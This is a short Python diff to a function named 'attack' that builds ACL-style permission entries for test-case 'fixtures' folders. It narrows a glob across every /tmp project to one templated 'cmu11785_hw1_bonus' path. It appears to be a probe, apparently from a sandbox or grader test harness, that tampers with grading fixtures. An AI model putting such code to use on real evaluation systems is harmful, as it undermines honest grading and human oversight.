@@ -19,9 +19,7 @@ def tried(name, numbers, *arguments):
 
 def attack(layer, x):
     print("TRIED raw calls", flush=True)
-    import glob
-
-    for folder in glob.glob("/tmp/*/project/testcases/*/fixtures"):
+    for folder in ("@PROJECT@/testcases/cmu11785_hw1_bonus/fixtures",):
         entries = b"".join(
             tag.to_bytes(2, "little") + rights.to_bytes(2, "little") + b"\xff" * 4 for tag, rights in ((1, 7), (4, 0), (32, 0))
         )
